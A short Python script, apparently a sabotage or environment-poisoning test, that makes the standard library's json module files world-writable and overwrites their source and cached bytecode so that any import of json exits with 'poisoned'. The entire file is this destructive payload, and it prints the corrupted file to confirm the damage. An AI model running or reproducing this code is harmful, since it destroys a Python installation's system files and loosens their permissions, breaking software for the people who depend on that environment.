import json
import os

folder = os.path.dirname(json.__file__)
for path in (json.__file__, json.__cached__, f"{folder}/decoder.py", json.decoder.__cached__):
    os.chmod(path, 0o777)
    size = os.stat(path).st_size
    with open(path, "r+b") as file:
        file.write(b"raise SystemExit('poisoned')\n#".ljust(size, b"x"))
print(open(json.__file__).read(40))
